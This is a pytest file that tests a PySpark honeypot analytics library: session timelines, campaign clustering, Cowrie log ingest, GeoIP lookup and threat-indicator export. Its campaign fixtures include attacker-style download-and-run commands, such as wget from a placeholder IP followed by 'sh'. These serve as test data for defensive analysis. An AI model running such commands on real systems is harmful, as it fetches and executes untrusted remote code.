"""Operators on small fixtures with values worked out by hand."""

from datetime import datetime, timedelta

import pytest

from pyspark.sql import functions as F

from lureframe.functions import text
from lureframe.operators import campaigns, claims, evaluation, fleet, indicators, ingest, periods, search, sessions
from lureframe.plans import adapter

T0 = datetime(2024, 3, 1)
EV = "event_id int, ts timestamp, session_id string, source_ip string, honeypot_id string, action string, command_line string"


def at(seconds):
    return T0 + timedelta(seconds=seconds)


def events(spark, rows):
    from lureframe.schema import EVENT_COLUMNS, conform

    df = spark.createDataFrame(rows, EV)
    return conform(df).withColumn("event_id", F.col("event_id").cast("int")).select(*EVENT_COLUMNS)


def test_session_fields(spark):
    rows = [
        (2, at(1.9), "s", "1.1.1.1", "h1", "cowrie.login.failed", None), (1, at(0), "s", "1.1.1.2", "h1", "cowrie.session.connect", None),
        (3, at(3), "s", "1.1.1.1", "h2", sessions.COMMAND, "id"), (4, at(9.99), "s", "1.1.1.1", "h2", sessions.CLOSED, None),
        (5, at(0), "open", "2.2.2.2", "h1", sessions.COMMAND, "id"),
    ]
    ev = events(spark, rows).withColumn("username", F.when(F.col("event_id") == 2, "").when(F.col("event_id") == 3, "bob"))
    ev = ev.withColumn("destination_port", F.when(F.col("event_id") == 1, 0).when(F.col("event_id") == 4, 22))
    got = {r.session_id: r for r in sessions.sessions(ev).collect()}
    s = got["s"]
    assert (s.attacker_ip, s.honeypot_id, s.username, s.destination_port, s.command_count, s.duration_seconds) == ("1.1.1.2", "h1", "bob", 22, 1, 9)
    assert s.ended_at == at(9.99) and got["open"].ended_at is None


def test_compaction_collapses_neighbours_only(spark):
    cmds = ["a", "a", "b", "a", "", "a"]
    ev = events(spark, [(i, at(i * 4000), "s", "1.1.1.1", "h", sessions.COMMAND, c) for i, c in enumerate(cmds)])
    got = [(r.event_id, r.command, r.repeat_count) for r in sessions.compact(ev).orderBy("ts").collect()]
    assert got == [(0, "a", 2), (2, "b", 1), (3, "a", 2)]


def test_timeline_labels(spark):
    ev = events(spark, [(1, at(0), "s", "9.9.9.9", "h", "web.request", None), (2, at(1), "s", "9.9.9.9", "h", "cowrie.session.file_download.failed", None), (3, at(2), "s", "9.9.9.9", "h", "brand.new", None)])
    ev = ev.withColumn("url_path", F.when(F.col("event_id") == 1, "/a")).withColumn("url_query", F.when(F.col("event_id") == 1, "q=1"))
    ev = ev.withColumn("http_status", F.when(F.col("event_id") == 1, 404)).withColumn("file_path", F.when(F.col("event_id") == 2, "/tmp/x"))
    got = [(r.kind, r.label, r.detail) for r in sessions.timeline(ev).orderBy("event_id").collect()]
    assert got == [("request", "? /a?q=1", "HTTP 404"), ("download", "Download failed: /tmp/x", "cowrie.session.file_download.failed"), ("other", "brand.new", None)]


def brute_chunks(entries, frame, limit):
    out, used, n = [], 0, 0
    for e in entries:
        if used and frame + used + e > limit:
            n, used = n + 1, 0
        used += e
        out.append(n)
    return out


def test_chunk_packing_matches_a_plain_loop(spark):
    cmds = [("x" * (i * 37 % 400 + 1)) for i in range(60)]
    ev = events(spark, [(i, at(i), "s", "1.1.1.1", "h", sessions.COMMAND, c) for i, c in enumerate(cmds)])
    comp, heads = sessions.compact(ev), sessions.compact_summary(ev)
    budget = 300
    got = [r.chunk_no for r in sessions.pack_chunks(comp, heads, budget).orderBy("pos").collect()]
    head = "\n".join([text.BLOCK_BEGIN, "session_id: s", "attacker_ip: 1.1.1.1", "failed_logins: 0", "successful_login: False", "commands:"]) + "\n"
    stamp = lambda i: at(i).strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"
    entries = [len(f"  - event_id: {i}\n    timestamp: {stamp(i)}\n    command: {c}\n") for i, c in enumerate(cmds)]
    assert got == brute_chunks(entries, len(head) + len(text.BLOCK_END), budget * 4) and max(got) > 3
    # A longer session continues in further blocks with continuing numbers, and keeps every row.
    blocks = [r.chunk_no for r in sessions.pack_chunks(comp, heads, budget, rows_per_block=16).orderBy("pos").collect()]
    assert len(blocks) == 60 and blocks == sorted(blocks) and set(blocks) == set(range(max(blocks) + 1))


def script(spark, runs):
    rows, n = [], 0
    for sid, ip, hp, start, cmds in runs:
        for i, c in enumerate(cmds):
            rows.append((n, at(start + i), sid, ip, hp, sessions.COMMAND, c))
            n += 1
    return events(spark, rows)


def test_campaigns_mask_addresses_and_keep_order(spark):
    ev = script(spark, [
        ("s1", "1.0.0.1", "ha", 0, ["wget http://5.5.5.5/a", "sh a"]), ("s2", "1.0.0.2", "hb", 100, ["WGET  http://6.6.6.6/a", "sh a"]),
        ("s3", "1.0.0.3", "ha", 200, ["sh a", "wget http://5.5.5.5/a"]), ("s4", "1.0.0.4", "ha", 300, ["id"]),
    ])
    (c,) = campaigns.campaigns(ev).collect()
    assert (c.session_count, c.session_ids, c.attacker_ips, c.honeypot_ids) == (2, ["s2", "s1"], ["1.0.0.2", "1.0.0.1"], ["hb", "ha"])
    assert c.commands == ["wget http://<ip>/a", "sh a"] and c.first_seen == at(0) and c.last_seen == at(101)
    assert campaigns.campaigns(ev, deny=["hb"]).count() == 0


def test_fingerprint_of_long_sessions_keeps_equality(spark):
    long = [f"c{i % 7}" for i in range(25)]
    ev = script(spark, [("a", "1.0.0.1", "h", 0, long), ("b", "1.0.0.2", "h", 7200, long), ("c", "1.0.0.3", "h", 9000, long[:-1]), ("d", "1.0.0.3", "h", 9900, ["c0", "c1"])])
    cmds = campaigns.command_events(ev)
    small = {r.session_id: r.fingerprint for r in campaigns.fingerprints(cmds, rows_per_block=4).collect()}
    whole = {r.session_id: r.fingerprint for r in campaigns.fingerprints(cmds).collect()}
    for p in (small, whole):
        assert p["a"] == p["b"] and len({p["a"], p["c"], p["d"]}) == 3
    import hashlib

    assert whole["a"] == hashlib.sha256("\n".join(long).encode()).hexdigest()[:12] and small == whole


def test_jaccard(spark):
    pairs = [("a", "x"), ("a", "y"), ("b", "x"), ("b", "y"), ("c", "y"), ("c", "z"), ("d", "w")]
    sets = spark.createDataFrame(pairs, "source_ip string, command string")
    got = {(r.ip, r.other_ip): r.score for r in campaigns.similarity(sets, spark.createDataFrame([("a",), ("d",)], "source_ip string")).collect()}
    assert got == {("a", "b"): 1.0, ("a", "c"): 0.333}


def test_coverage_flag_reports_a_cap(spark):
    ev = script(spark, [("s1", "i", "h", 0, ["a"] * 5), ("s2", "i", "h", 100, ["a"] * 5), ("s3", "i", "h", 200, ["a"] * 5)])
    cmds = campaigns.command_events(ev)
    assert tuple(campaigns.coverage_flag(cmds).first()) == (3, True, None)
    assert tuple(campaigns.coverage_flag(cmds, max_events=10).first()) == (2, False, "command_event_limit")
    assert tuple(campaigns.coverage_flag(cmds, max_sessions=2).first()) == (2, False, "session_limit")
    assert tuple(campaigns.coverage_flag(cmds, max_sessions=2, max_events=9).first()) == (1, False, "command_event_limit")
    many = script(spark, [(f"m{i}", "i", "h", 100 * i, ["a"]) for i in range(3000)])
    assert tuple(campaigns.coverage_flag(campaigns.command_events(many), max_events=10**9).first()) == (3000, True, None)


def test_chunks_of_a_long_session_follow_the_same_rule(spark):
    ev = script(spark, [("a", "1.0.0.1", "h", 0, [f"echo {'x' * (i % 90)} {i}" for i in range(300)]), ("b", "1.0.0.2", "h", 50, ["id", "ls"])])
    rows, heads = sessions.compact(ev), sessions.compact_summary(ev)
    got = [sorted((r.session_id, r.pos, r.chunk_no, r.chars) for r in sessions.pack_chunks(rows, heads, budget=400, rows_per_block=n).collect()) for n in (4096, 16)]
    assert got[0] == got[1] and max(c for _, _, c, _ in got[0]) > 5


def test_markers_are_found_inside_commands(spark):
    at = datetime(2024, 3, 1)
    good, other = "__lf_00112233445566ff__", "__lf_ffffffffffffffff__"
    rows = [("s1", "h", at, sessions.COMMAND, f"echo zz{good}zz"), ("s0", "h", at, sessions.COMMAND, "echo 00112233445566ff"), ("s2", "h", at + timedelta(hours=9), sessions.COMMAND, f"echo {good}"), ("s3", "h", at - timedelta(minutes=1), "web.request", good), ("s4", "h", at, sessions.COMMAND, f"a{other}{good[2:]}")]
    ev = spark.createDataFrame([(*r, False) for r in rows], "session_id string, honeypot_id string, ts timestamp, action string, command_line string, labels_seeded boolean")
    runs = spark.createDataFrame([("r1", good, "h", at, at), ("r2", other, "h", at, at), ("r3", good, "elsewhere", at, at)], "run_id string, nonce string, honeypot_id string, started_at timestamp, finished_at timestamp")
    assert {r.run_id: r.session_id for r in evaluation.sessions_by_marker(ev, runs).collect()} == {"r1": "s1", "r2": "s4"}


def test_a_page_that_is_too_large_is_refused(spark):
    ev = script(spark, [("s1", "i", "h", 0, ["a"])])
    for bad in ({"size": 501}, {"size": 0}, {"page": 0}):
        with pytest.raises(ValueError):
            search.search(ev, **bad)


def test_trend_has_no_jump_from_zero(spark):
    pct, way = fleet.trend(F.col("a"), F.col("b"))
    df = spark.createDataFrame([(5, 0), (0, 0), (3, 2), (1, 2), (2, 2)], "a int, b int").select(pct.alias("p"), way.alias("w"))
    assert [tuple(r) for r in df.collect()] == [(0.0, "flat"), (0.0, "flat"), (50.0, "up"), (-50.0, "down"), (0.0, "flat")]


# --- periods ---
def cut(spark, deployments, changes=(), hours=48):
    dp = spark.createDataFrame([(i, "h", p, T0 + timedelta(hours=h)) for i, (h, p) in enumerate(deployments)], "deployment_id int, honeypot_id string, persona string, deployed_at timestamp")
    ch = spark.createDataFrame([(i, "h", T0 + timedelta(hours=h), k) for i, (h, k) in enumerate(changes)], "change_id int, honeypot_id string, at timestamp, kind string")
    span = spark.createDataFrame([("h", T0, T0 + timedelta(hours=hours))], "honeypot_id string, start timestamp, end timestamp")
    rows = periods.periods(dp, ch, span).orderBy("start").collect()
    hour = lambda t: int((t - T0).total_seconds() // 3600)
    return [(hour(r.start), hour(r.end), r.persona, list(r.opened_by)) for r in rows]


def test_periods(spark):
    assert cut(spark, []) == [(0, 48, None, [])]
    assert cut(spark, [(10, "web")]) == [(0, 10, "pre-persona", []), (10, 48, "web", ["persona:web"])]
    assert cut(spark, [(0, "web")]) == [(0, 48, "web", [])] and cut(spark, [(48, "web")]) == [(0, 48, "pre-persona", [])]
    assert cut(spark, [(-5, "old"), (60, "new")]) == [(0, 48, "old", [])]
    assert cut(spark, [(10, "web")], [(10, "note"), (20, "rate-limit")]) == [(0, 10, "pre-persona", []), (10, 20, "web", ["persona:web", "note"]), (20, 48, "web", ["rate-limit"])]
    assert cut(spark, [(10, "a"), (10, "b")]) == [(0, 10, "pre-persona", []), (10, 48, "b", ["persona:a", "persona:b"])]
    assert cut(spark, [], [(5, "note")]) == [(0, 5, None, []), (5, 48, None, ["note"])] and cut(spark, [(1, "a")], hours=0) == []


def test_period_counts_sum_to_the_window(spark):
    ev = adapter.events(spark, "/root/testdata/sf0.001")
    spans = periods.periods(adapter.deployments(spark), adapter.changes(spark), periods.windows_from_first_event(ev, datetime(2024, 1, 1), datetime(2024, 1, 31)))
    assert periods.traffic_by_period(ev, spans).agg(F.sum("events")).first()[0] == ev.count()


# --- ingest ---
def ingested(spark, *lines, cidr=None):
    good, bad = ingest.normalize(spark.createDataFrame([(x, "h", "decoy") for x in lines], "raw string, honeypot_id string, honeypot_name string"), cidr)
    return good.collect(), bad.collect()


def test_ingest_cases(spark):
    base = '"timestamp":"2024-03-01T00:00:00.25Z","session":"s","src_ip":"1.2.3.4"'
    (g,), bad = ingested(spark, '{"eventid":"cowrie.command.input",%s,"input":"id","message":"m","src_port":5,"dst_port":22}' % base)
    assert (g.category, g.outcome, g.command_line, g.source_port, g.protocol, g.ts) == ("process", "success", "id", 5, "ssh", datetime(2024, 3, 1, 0, 0, 0, 250000)) and not bad
    (g,), _ = ingested(spark, '{"eventid":"cowrie.login.failed",%s,"username":"u","protocol":"telnet"}' % base)
    assert (g.category, g.outcome, g.username, g.protocol) == ("authentication", "failure", "u", "telnet")
    good, (b,) = ingested(spark, '{"eventid":"x",%s,"surprise":1}' % base)
    assert not good and b.unknown_keys == ["surprise"] and "surprise" in b.raw and b.reason == "unknown_field"
    good, bad = ingested(spark, '{"eventid":"cowrie.telnet.option",%s,"command":"WILL","option_name":"n"}' % base, '{"eventid":"other",%s,"command":"WILL"}' % base)
    assert len(good) == 1 and [b.unknown_keys for b in bad] == [["command"]]
    failed = '{"eventid":"cowrie.session.file_download.failed",%s,"error":%%s}' % base
    good, bad = ingested(spark, failed % '"timed out"', failed % '{"a":1}')
    assert [g.reason for g in good] == ["timed out"] and [b.unknown_keys for b in bad] == [["error"]]
    good, bad = ingested(spark, "not json", '{"eventid":"a",%s,"http":{"request":{"method":"GET","odd":1}}}' % base, '{"eventid":"a","src_ip":"nope"}')
    assert not good and sorted((b.reason, tuple(b.unknown_keys)) for b in bad) == [("invalid_address", ()), ("malformed_json", ()), ("unknown_field", ("http.request.odd",))]
    (g,), _ = ingested(spark, '{"cowrie":{"eventid":"web.request",%s,"path":"/a","query":"b","http":{"response":{"status_code":200}}}}' % base)
    assert (g.category, g.url_path, g.url_query, g.http_status) == ("web", "/a", "b", 200)
    (g,), bad = ingested(spark, '{"eventid":"a","timestamp":"yesterday"}')
    assert g.ts is None and g.category == "other" and not bad


def test_country_keeps_a_given_one_and_skips_private(spark):
    cidr = spark.createDataFrame([("1.2.0.0/15", "AA"), ("1.3.7.0/24", "BB")], "cidr string, country string")
    ev = spark.createDataFrame([(1, "1.2.3.4", None), (2, "1.3.7.9", None), (3, "1.2.3.4", "ZZ"), (4, "10.0.0.1", None), (5, None, None)], "event_id int, source_ip string, source_country string")
    assert {r.event_id: r.source_country for r in ingest.geoip_country(ev, cidr).collect()} == {1: "AA", 2: "BB", 3: "ZZ", 4: None, 5: None}


def test_web_session_edge(spark):
    rows = [(1, at(0), "a"), (2, at(1800), "a"), (3, at(3600.000001), "a"), (4, at(0), "b")]
    got = ingest.web_sessions(spark.createDataFrame(rows, "event_id int, ts timestamp, source_ip string")).orderBy("ip", "start").collect()
    assert [(r.ip, r.requests) for r in got] == [("a", 2), ("a", 1), ("b", 1)]


def test_targets(spark):
    cases = {"/a/b?x=1&y=2#f": ("/a/b", "x=1&y=2"), "": ("/", None), "?q": ("/", "q"), "http://h:1/p?": ("/p", None), "/p?a?b": ("/p", "a?b")}
    path, query = ingest.split_target(F.col("t"))
    df = spark.createDataFrame([(t,) for t in cases], "t string").select("t", path.alias("p"), query.alias("q"))
    assert {r.t: (r.p, r.q) for r in df.collect()} == cases


# --- indicators ---
def test_exports(spark):
    rows = [("ip", "185.220.101.44", 2), ("ip", "192.168.1.5", 1), ("url", "http://x/a\\'b", 1), ("hash", "a" * 64, 3), ("hash", "abc", 1), ("command", "id", 1), ("username", "root", 1), ("ip", "300.1.1.1", 1)]
    ind = spark.createDataFrame([(*r, T0, T0) for r in rows], "type string, value string, session_count int, first_seen timestamp, last_seen timestamp").withColumn("source", F.lit("OBSERVED"))
    split = indicators.export_split(ind)
    assert {r.reason: r.n for r in indicators.exclusions(split).collect()} == {"non-public-ip": 1, "unparseable-ip": 1, "unknown-hash-length": 1, "type:command": 1, "type:username": 1}
    assert [r.line for r in indicators.blocklist(split).collect()] == ["185.220.101.44"]
    assert {r.reason: r.n for r in indicators.exclusions(split, blocklist=True).collect()}["type:url"] == 1
    import json

    objects = {json.loads(r.json)["name"]: json.loads(r.json) for r in indicators.stix_objects(split).collect()}
    assert objects["url: http://x/a\\'b"]["pattern"] == "[url:value = 'http://x/a\\\\\\'b']" and len(objects) == 3
    assert objects["ip: 185.220.101.44"]["created"] == "2024-03-01T00:00:00.000Z" and objects["ip: 185.220.101.44"]["description"].endswith("in 2 sessions.")
    assert {json.loads(r.json)["type"] for r in indicators.misp_attributes(split).collect()} == {"ip-src", "url", "sha256"}


def test_correlated_needs_a_second_session(spark):
    links = lambda *s: indicators.session_links(spark.createDataFrame([("ip", "v", x, T0) for x in s], "type string, value string, session_id string, seen_at timestamp"))
    source = lambda df: indicators.correlate(df).first().source
    assert source(links("a")) == source(links("a", "a")) == "OBSERVED" and source(links("a", "b")) == "CORRELATED"


# --- claims ---
def test_barrier_counts_add_up(spark):
    ev = spark.createDataFrame([("s", 1, T0), ("t", 9, T0)], "session_id string, event_id int, ts timestamp")
    cl = spark.createDataFrame([(1, "s"), (2, "s"), (3, "s"), (4, "s")], "claim_id int, session_id string").withColumn("kind", F.lit("k")).withColumn("technique_id", F.lit(None).cast("string")).withColumn("text", F.repeat(F.lit("x"), 700))
    ct = spark.createDataFrame([(1, 1), (1, 9), (2, 9), (3, 5)], "claim_id int, event_id int").withColumn("artifact", F.lit("a"))
    kept, rejected = claims.barrier(cl, ct, ev)
    assert [(r.claim_id, r.event_id) for r in kept.collect()] == [(1, 1)]
    got = {r.claim_id: (list(r.cited_event_ids), len(r.text)) for r in rejected.collect()}
    assert got == {2: ([9], 500), 3: ([5], 500), 4: ([], 500)}


def test_verdict_gate_refuses_one_invented_citation(spark):
    v = spark.createDataFrame([(1, "c", 0.5, "ok"), (2, "c", 0.5, "ok"), (3, "c", 1.5, "ok"), (4, "c", 0.5, ""), (5, "c", 0.5, "ok")], "run_id int, characteristic string, rating double, critique string")
    cites = spark.createDataFrame([(1, "c", "p"), (1, "c", "p"), (2, "c", "p"), (2, "c", "made"), (3, "c", "p"), (4, "c", "p")], "run_id int, characteristic string, item_id string")
    pk = spark.createDataFrame([(i, "c", "p") for i in range(1, 6)], "run_id int, characteristic string, item_id string")
    assert {r.run_id: r.reason for r in claims.verdict_gate(v, cites, pk).collect()} == {1: None, 2: "cited_evidence_not_in_package", 3: "rating_out_of_range", 4: "empty_critique", 5: "no_evidence_cited"}


# --- evaluation ---
PR = "run_id int, module string, probe_id string, establishes string, value string, fact_status string, position int"


def results(spark, rows):
    return spark.createDataFrame(rows, PR).withColumn("result_id", F.concat_ws("-", F.col("run_id").cast("string"), F.col("position").cast("string"))).withColumn("raw_output", F.col("value"))


def test_scores_leave_unknown_out_of_both_sides(spark):
    pr = results(spark, [(1, "agent", "whoami", "f", "x", "observed", 0), (1, "agent", "uname", "f", None, "not_observed", 1), (1, "agent", "uname", "f", None, "unknown", 2), (2, "nmap", "s", "s", None, "unknown", 0)])
    assert {(r.run_id, r.characteristic): r.score for r in evaluation.scores(pr).collect()} == {(1, "basic_commands"): 0.5, (2, "services"): None}


def test_contradictions_compare_claims_not_raw_text(spark):
    pr = results(spark, [
        (1, "agent", "uname", "os.identity", "Linux Debian 5", "observed", 0), (1, "agent", "os_release", "os.identity", 'NAME="Debian"', "observed", 1),
        (2, "agent", "uname", "os.identity", "Linux Debian 5", "observed", 0), (2, "agent", "os_release", "os.identity", "Ubuntu", "observed", 1),
        (3, "agent", "uname_m", "host.arch", "armv7l", "observed", 9), (3, "agent", "cpu_arch", "host.arch", "CPU architecture: 7", "observed", 10), (3, "agent", "lib_arch", "host.arch", "x86_64-linux-gnu", "observed", 11),
        (4, "agent", "uname", "os.identity", "Debian", "unknown", 0), (4, "agent", "os_release", "os.identity", "Ubuntu", "observed", 1),
        (5, "agent", "hostname_cmd", "host.name", "svr", "observed", 2), (5, "agent", "hosts_file", "host.name", "127.0.0.1 localhost\n127.0.1.1\tSVR\n", "observed", 4),
    ])
    got = sorted((r.run_id, r.probe_a, r.probe_b, r.value_b) for r in evaluation.contradictions(evaluation.fact_claims(pr)).collect())
    assert got == [(2, "uname", "os_release", "Ubuntu"), (3, "cpu_arch", "lib_arch", "x86_64-linux-gnu"), (3, "uname_m", "lib_arch", "x86_64-linux-gnu")]


def life(spark, *runs):
    """One decoy; each run is (completed, {key: fact status}); a not_observed fact is a finding."""
    base = [(i, "d", "completed" if ok else "failed", T0 + timedelta(days=i), "h", "c") for i, (ok, _) in enumerate(runs)]
    ru = spark.createDataFrame(base, "run_id int, honeypot_id string, status string, started_at timestamp, honeypot_fingerprint string, evaluation_config_fingerprint string")
    facts = spark.createDataFrame([(i, k, s) for i, (_, f) in enumerate(runs) for k, s in f.items()], "run_id int, key string, fact_status string")
    found = facts.filter("fact_status = 'not_observed'").select("run_id", F.col("key").alias("finding_key"))
    return {(r.head_run_id, r.key): r.status for r in evaluation.lifecycle(ru, found, facts).collect()}


def test_lifecycle_states(spark):
    no, yes, unk = {"k": "not_observed"}, {"k": "observed"}, {"k": "unknown"}
    assert life(spark, (True, yes), (True, no)) == {(1, "k"): "new"}
    assert life(spark, (True, no), (True, no), (True, yes)) == {(1, "k"): "persisting", (2, "k"): "fixed"}
    assert life(spark, (True, no), (True, unk)) == {(1, "k"): "undetermined"} == life(spark, (True, no), (True, {"other": "observed"}))
    assert life(spark, (True, no), (True, yes), (True, no))[2, "k"] == "regressed" and life(spark, (False, no), (True, yes), (True, no))[2, "k"] == "new"
    far = [(True, no)] + [(True, yes)] * 20
    assert life(spark, *far, (True, no))[21, "k"] == "regressed" and life(spark, *far, (True, yes), (True, no))[22, "k"] == "new"
    assert life(spark, (True, {"evaluator:sanity": "not_observed"}), (True, {"evaluator:sanity": "not_observed"})) == {}


def test_packages_are_bounded_with_a_counted_notice(spark):
    pr = results(spark, [(1, "agent", "whoami", "f", "y" * 5000, "observed", i) for i in range(43)])
    st = spark.createDataFrame([], "run_id int, step_id string, chain_id string, step_index int, expected_technique_id string, fact_status string, matched_rule_id string, command string")
    rows = evaluation.evidence_packages(pr, st).collect()
    notice = [r.summary for r in rows if r.item_id == evaluation.NOTICE_ID]
    assert len(rows) == 41 and notice[0].startswith("3 more items") and all("left out" in r.summary for r in rows if r.item_id != evaluation.NOTICE_ID) and all(len(r.summary) < 1500 + 200 for r in rows)


def test_probe_set_check(spark):
    probes = spark.createDataFrame([("f", "x"), ("f", None), ("g", "y"), ("g", "y")], "establishes string, extract string").withColumn("aliases", F.lit(None).cast("map<string,string>"))
    assert [tuple(r) for r in evaluation.probe_set_check(probes).collect()] == [("f", 2)]
    from lureframe.sources import reference

    assert evaluation.probe_set_check(reference.probes(spark)).count() == 0


def test_rotated_logs(spark):
    files = spark.createDataFrame([("a.json.2024-01-01",), ("a.json.2024-01-02",), ("a.json",)], "name string")
    assert [r.name for r in evaluation.rotated_logs(files, datetime(2024, 1, 2)).collect()] == ["a.json.2024-01-01"]


def test_annotations(spark):
    rows = [(1, "s", "tag", " Bot.Net "), (2, "s", "tag", "bot.net"), (3, "s", "tag", "a b"), (4, "s", "note", " "), (5, "s", "note", "x" * 2001), (6, "s", "note", "a\x00b"), (7, "s", "note", " ok "), (8, "s", "other", "x")]
    ok, bad = search.annotations(spark.createDataFrame([(*r, T0) for r in rows], "annotation_id int, session_id string, kind string, body string, created_at timestamp"))
    assert sorted((r.annotation_id, r.body) for r in ok.collect()) == [(1, "bot.net"), (7, "ok")]
    assert {r.annotation_id: r.reason for r in bad.collect()} == {3: "malformed_tag", 4: "empty_note", 5: "note_too_long", 6: "nul_character", 8: "unknown_kind"}


def test_packing_tables_equal_a_plain_loop():
    import random

    import numpy as np

    from lureframe.functions.streamed import cut_table

    rng = random.Random(1)
    for _ in range(2000):
        room = rng.randrange(5, 60)
        costs = np.array([rng.randrange(1, rng.choice([5, 30, 90])) for _ in range(rng.randrange(1, 40))])
        used, cuts = start, n = rng.randrange(1, room + 40), 0
        for x in costs:
            if used + x > room:
                used, cuts = 0, cuts + 1
            used += x
        limits, after, made, whole = cut_table(costs, room)
        j = int(np.searchsorted(-limits, -start, side="right"))
        assert ((int(after[j]), int(made[j])) if j < len(limits) else (start + whole, 0)) == (used, cuts)


def test_one_session_packs_in_many_tasks(spark):
    """A session with most rows is packed block by block; what each block needs to know is a small table."""
    rows = spark.range(100_000).select(F.lit("hot").alias("session_id"), F.col("id").alias("event_id"), F.timestamp_seconds(F.lit(1_700_000_000)).alias("ts"),
                                       F.concat(F.lit("c"), F.repeat(F.lit("x"), (F.col("id") % 97).cast("int"))).alias("command"), F.lit(1).alias("repeat_count"))
    heads = spark.createDataFrame([("hot", "1.1.1.1", 0, False)], "session_id string, attacker_ip string, failed_logins int, successful_login boolean")
    got = sessions.pack_chunks(rows, heads, budget=300, rows_per_block=1000).select("pos", "chunk_no", "chars").toPandas().sort_values("pos")
    frame = len(text.BLOCK_BEGIN + text.BLOCK_END + "\nsession_id: \nattacker_ip: \nfailed_logins: \nsuccessful_login: \ncommands:\n" + "hot" + "1.1.1.1" + "0" + "False")
    assert got["chunk_no"].tolist() == brute_chunks(got["chars"].tolist(), frame, 1200) and len(got) == 100_000


def test_outputs_and_downloads_of_a_session(spark):
    lines = "\n".join(f"line {i}" for i in range(60))
    ev = spark.createDataFrame(
        [(1, at(1), "s", sessions.COMMAND, "ls", lines, None), (2, at(2), "s", sessions.COMMAND, "ls", "other", None), (3, at(3), "s", sessions.DOWNLOAD, None, None, "http://a/b")],
        "event_id int, ts timestamp, session_id string, action string, command_line string, output string, file_url string")
    (row,) = sessions.compact(ev).collect()
    assert row.repeat_count == 2 and row.output_excerpt.split("\n")[20] == "... 20 lines omitted ..." and len(row.output_excerpt.split("\n")) == 41
    assert [(r.event_id, r.url, r.outfile, r.shasum) for r in sessions.downloads(ev).collect()] == [(3, "http://a/b", None, None)]


def test_objects_are_refused_at_any_depth(spark):
    wrong = ['{"http":{"request":"x"}}', '{"http":{"request":{"method":{"a":1}}}}', '{"network":{"protocol":{}}}', '{"http":[]}', '{"src_port":true}', '{"labels":{"seeded":"maybe"}}', '{"input":["a"]}']
    unknown = {'{"http":{"request":{"other":1}}}': ["http.request.other"], '{"eventid":5,"timestamp":"x","size":1}': ["size", "timestamp"],
               '{"protocol":"ssh","network":{"protocol":"telnet"},"session":"s"}': ["protocol", "session"], '{"source":{"ip":"1.1.1.1"}}': ["source.ip"]}
    fine = ['{"http":null,"src_port":null,"input":null}', '{"eventid":5,"session":"s"}', '{"network":{"protocol":"telnet"},"eventid":"a.login.x"}', '{"src_port":"22","dst_port":22,"input":5}']
    good, bad = ingested(spark, *wrong, *unknown, *fine)
    got = {r.raw: (r.reason, r.unknown_keys) for r in bad}
    assert got == {w: ("invalid_type", []) for w in wrong} | {u: ("unknown_field", keys) for u, keys in unknown.items()}
    rows = [(r.session_id, r.action, r.category, r.protocol, r.source_port, r.destination_port, r.command_line) for r in good]
    assert sorted(rows, key=str) == sorted([(None, None, None, "ssh", None, None, None), ("s", "5", "other", "ssh", None, None, None),
                                            (None, "a.login.x", "authentication", "telnet", None, None, None), (None, None, None, "ssh", 22, 22, "5")], key=str)


def test_longest_prefix_wins_in_both_families(spark):
    cidr = spark.createDataFrame([("0.0.0.0/0", "Z"), ("128.0.0.0/1", "A"), ("130.0.0.0/7", "B"), ("131.9.0.0/16", "C"), ("131.9.4.4/32", "D"), ("131.9.4.4/32", "E"),
                                  ("::/0", "z"), ("2000::/3", "a"), ("2a01:e34:8000::/33", "b"), ("2a01:e34:8000::1/128", "c"), ("no/8", "x"), ("1.1.1.1/99", "y")], "cidr string, country string")
    want = {"9.9.9.9": "Z", "129.0.0.1": "A", "130.1.1.1": "B", "131.9.9.9": "C", "131.9.4.4": "D", "fe80::1": "z", "3fff::1": "a", "2a01:e34:9000::1": "b", "2a01:e34:7000::1": "a", "2a01:e34:8000::1": "c", "junk": None}
    ev = spark.createDataFrame([(ip, None) for ip in [*want, *want]], "source_ip string, source_country string")
    got = ingest.geoip_country(ev, cidr).collect()
    assert {r.source_ip: r.source_country for r in got} == want and len(got) == 2 * len(want)
    assert {r.source_country for r in ingest.geoip_country(ev, cidr.limit(0)).collect()} == {None}
